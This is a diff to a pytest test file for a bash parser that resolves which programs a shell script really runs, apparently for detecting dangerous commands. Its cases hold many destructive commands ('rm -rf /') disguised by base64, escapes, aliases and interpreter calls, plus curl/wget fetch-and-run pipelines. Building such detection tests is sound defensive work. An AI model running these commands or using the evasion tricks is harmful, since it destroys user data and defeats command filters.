@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import shlex
+import subprocess
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -38,6 +41,33 @@ def programs(script: str) -> list[str]:
         ("if true; then rm x; fi; for f in *; do cat $f; done", ["true", "rm", "cat"]),
         ("$(echo rm) -rf /", ["echo", "rm"]),
         ("command -v rm", ["command"]),
+        ("! ! rm -rf /", ["rm"]),
+        ("> /etc/passwd", [":"]),
+        ("cat <<EOF | sh\nrm -rf /\nEOF", ["cat", "sh", "rm"]),
+        ("echo 'rm -rf ~' | sh", ["echo", "sh", "rm"]),
+        ("printf 'r\\x6d -rf /' | bash", ["printf", "bash", "rm"]),
+        ("echo cm0gLXJmIC8= | base64 -d | sh", ["echo", "base64", "sh", "rm"]),
+        ('c="rm -rf"; $c /', ["rm"]),
+        ("IFS=,; x=rm,-rf,/; $x", ["rm"]),
+        ('cmd=(rm -rf /); "${cmd[@]}"', ["rm"]),
+        ("${PATH:0:0}rm -rf /", ["rm"]),
+        ("r${u}m -rf /", ["rm"]),
+        ('f() { rm -rf "$1"; }; f /', ["f", "rm"]),
+        ("alias x='rm -rf'; x /", ["alias", "rm"]),
+        ("pkexec rm -rf /", ["rm"]),
+        ("systemd-run --uid=0 -p X=y rm -rf /", ["rm"]),
+        ("script -qc 'rm -rf /' /dev/null", ["script", "rm"]),
+        ("tmux new -d 'rm -rf /'", ["tmux", "rm"]),
+        ("screen -dmS job rm -rf /", ["rm"]),
+        ("git -c alias.x='!rm -rf /' x", ["git", "rm"]),
+        ("vim -c ':!rm -rf /'", ["vim", "rm"]),
+        ("tar cf x y --checkpoint-action=exec='rm -rf /'", ["tar", "rm"]),
+        ("echo 'rm -rf /' | at now", ["echo", "at", "rm"]),
+        ("python3 -c \"import os; os.system('rm -rf /')\"", ["python3", "rm"]),
+        ("echo \"import shutil; shutil.rmtree('/etc')\" | python3", ["echo", "python3", "rm"]),
+        ("perl -e 'system(\"rm -rf /\")'", ["perl", "rm"]),
+        ("awk 'BEGIN{system(\"rm -rf /\")}'", ["awk", "rm"]),
+        ("echo 'rm -rf /' > x.sh; sh x.sh", ["echo", "sh", "rm"]),
     ],
 )
 def test_resolves_the_programs_that_run(script: str, expected: list[str]) -> None:
@@ -57,8 +87,8 @@ def test_wrappers_and_paths_are_recorded() -> None:
 def test_pipeline_records_where_stdin_comes_from() -> None:
     commands = simple_commands("curl -s http://x | tee log | sh")
     assert [c.program for c in commands] == ["curl", "tee", "sh"]
-    assert commands[2].stdin_from == (0, 1)
-    assert commands[0].stdin_from == ()
+    assert commands[2].stdin_from == (1,) and commands[0].stdin_from == ()
+    assert "download:curl" in commands[2].inputs  # what flows in is tagged, however long the pipeline
 
 
 def test_substitution_sources_are_recorded() -> None:
@@ -67,11 +97,10 @@ def test_substitution_sources_are_recorded() -> None:
     assert [commands[i].program for i in evaluator.args_from] == ["curl"]
 
 
-def test_supplementary_plane_text_does_not_crash_the_parser() -> None:
-    # tree-sitter-bash 0.25 kills the process on this input unless it is sanitised first
-    # (a crash here takes the whole pytest process down, which is the failure mode being guarded)
+def test_supplementary_plane_text_is_read_as_text() -> None:
+    # these crashed the C parser used before (tree-sitter-bash 0.25); the reader here is plain Python
     for text in ("a{\U000a4c2e", "{\U000e3e2f x", "echo \ud800 {\U00100000}"):
-        assert parse_script(text).commands[0].program in ("a{\ufffd", "\ufffd", "echo")
+        assert parse_script(text).commands[0].program in ("a{\U000a4c2e", "{\U000e3e2f", "echo")
 
 
 def test_redirect_after_a_list_binds_to_its_last_command() -> None:
@@ -99,8 +128,150 @@ def test_never_raises_on_arbitrary_text(text: str) -> None:
     assert isinstance(result.commands, tuple)
 
 
-def test_deep_nesting_stops() -> None:
+def test_deep_nesting_is_an_analysis_limit_not_a_crash() -> None:
     script = "rm -rf /"
     for _ in range(12):
-        script = "bash -c " + repr(script).replace("\\", "\\\\")
-    assert parse_script(script).commands  # walks what it can, no recursion error
+        script = "bash -c " + shlex.quote(script)
+    assert parse_script(script).limit is not None  # code strings deeper than MAX_DEPTH
+    assert parse_script("( " * 200 + "ls" + " )" * 200).limit is not None  # syntactic nesting
+    assert parse_script("$(" * 100 + "ls" + ")" * 100).limit is not None
+
+
+def argv(script: str) -> list[tuple[str, ...]]:
+    return [c.argv for c in simple_commands(script)]
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ("rm -rf /{etc,usr}", [("rm", "-rf", "/etc", "/usr")]),
+        ("echo {a..c}{1,2}", [("echo", "a1", "a2", "b1", "b2", "c1", "c2")]),
+        ("rm -rf /e??/", [("rm", "-rf", "/etc")]),
+        ("rm -rf /[e]tc", [("rm", "-rf", "/etc")]),
+        ("x='a b'; echo $x \"$x\"", [("echo", "a", "b", "a b")]),
+        ("a=(1 '2 3'); echo \"${a[@]}\" ${#a[@]} ${a[1]}", [("echo", "1", "2 3", "2", "2", "3")]),
+        (
+            "p=/usr/lib/x.so; echo ${p##*/} ${p%/*} ${p/lib/LIB} ${p^^}",
+            [("echo", "x.so", "/usr/lib", "/usr/LIB/x.so", "/USR/LIB/X.SO")],
+        ),
+        (
+            "v=hello; echo ${v:1:3} ${v: -2} ${#v} ${w:-dflt} ${v:+set}",
+            [("echo", "ell", "lo", "5", "dflt", "set")],
+        ),
+        ('set -- a b; shift; echo "$@" $#', [("set", "--", "a", "b"), ("shift",), ("echo", "b", "1")]),
+        ("read -r a b <<< 'x y z'; echo $a \"$b\"", [("read", "-r", "a", "b"), ("echo", "x", "y z")]),
+        ("echo $'\\x41\\t' \"q\"'u'o", [("echo", "A\t", "quo")]),
+        ("echo $((2 * (3 + 4)))", [("echo", "14")]),
+        ("cd /etc && cat passwd", [("cd", "/etc"), ("cat", "passwd")]),
+    ],
+)
+def test_expansion_follows_bash(script: str, expected: list[tuple[str, ...]]) -> None:
+    assert argv(script) == expected
+
+
+def test_the_working_directory_is_followed() -> None:
+    commands = simple_commands("cd /; rm -rf *; cd tmp; ls")
+    assert [c.cwd for c in commands] == [None, "/", "/", "/tmp"]
+
+
+def test_nul_bytes_are_dropped_as_bash_drops_them() -> None:
+    assert argv("r\x00m -rf /") == [("rm", "-rf", "/")]
+
+
+def test_a_function_runs_with_its_arguments_and_uncalled_functions_are_read_too() -> None:
+    assert ("rm", "-rf", "/") in argv('nuke() { rm -rf "$1"; }; nuke /')
+    assert ("rm", "-rf", "${1}") in argv('nuke() { rm -rf "$1"; }')  # not called: $1 is unknown
+
+
+def test_files_written_earlier_are_read_when_run() -> None:
+    commands = simple_commands("cat > /tmp/a.sh <<'EOF'\nrm -rf ~\nEOF\nchmod +x /tmp/a.sh; /tmp/a.sh")
+    inner = commands[-1]
+    assert inner.argv == ("rm", "-rf", "~") and inner.wrappers == ("/tmp/a.sh",)
+
+
+def test_a_downloaded_file_that_is_run_is_tagged() -> None:
+    commands = simple_commands("wget -P /tmp http://x.example/p.sh; bash /tmp/p.sh")
+    assert "runs-download:/tmp/p.sh" in commands[-1].inputs
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("a $'\"(){}|&;<>`\\\n#=*?[]~!")), max_size=80))
+def test_never_raises_on_shell_like_text(text: str) -> None:
+    result = parse_script(text)
+    assert isinstance(result.commands, tuple) and (result.limit is None or result.limit)
+
+
+# ---- the same expansion as bash, checked against bash itself -------------------------------------------
+
+ASSIGNMENTS = st.sampled_from(
+    [
+        "v='a b'",
+        "v=x",
+        "v=''",
+        "v='  sp  aced '",
+        "IFS=,; v=a,b,,c",
+        "IFS=:; v=':a::b:'",
+        "arr=(x 'y z' ''); v=z",
+        "v=/usr/lib/libc.so.6",
+        "v=AbC",
+        "n=3; v=9",
+    ]
+)
+PIECES = st.sampled_from(
+    [
+        "$v",
+        '"$v"',
+        "${v}",
+        "${v:-d}",
+        "${u:-d}",
+        "${v:+s}",
+        "${v#*/}",
+        "${v##*/}",
+        "${v%/*}",
+        "${v%%.*}",
+        "${v/b/B}",
+        "${v//a/_}",
+        "${v^^}",
+        "${v,,}",
+        "${#v}",
+        "${v:1}",
+        "${v:0:2}",
+        "${v: -2}",
+        '"${arr[@]}"',
+        "${arr[@]}",
+        '"${arr[*]}"',
+        "${#arr[@]}",
+        "${arr[1]}",
+        "{a,b}",
+        "{1..3}",
+        "x{,y}z",
+        "'q'",
+        '"d q"',
+        "$'\\x41'",
+        "\\$v",
+        "pre$v",
+        "${v}post",
+        "$((n + 1))",
+        "$((n * 2))",
+        "~",
+        "a'b'\"c\"",
+    ]
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(ASSIGNMENTS, st.lists(PIECES, min_size=1, max_size=4), st.lists(PIECES, max_size=2))
+def test_words_expand_as_bash_expands_them(assignment: str, words: list[str], glued: list[str]) -> None:
+    """Differential check: the fields of a printf command equal what bash itself passes to printf."""
+    line = " ".join(words) + ("" if not glued else " " + "''".join(glued))  # '' keeps names apart
+    script = f"{assignment}; printf '<%s>\\n' @ {line} @"  # @ ... @: zero fields still print something
+    bash = subprocess.run(
+        ["bash", "--norc", "--noprofile", "-c", script],
+        capture_output=True,
+        text=True,
+        timeout=10,
+        env={"PATH": "/usr/bin:/bin", "HOME": "~"},
+    )
+    expected = [f[1:-1] for f in bash.stdout.splitlines()][1:-1]
+    fields = [c for c in simple_commands(script) if c.program == "printf"][0].args[2:-1]
+    assert list(fields) == expected, script  # HOME=~ : the home directory is called ~ on both sides
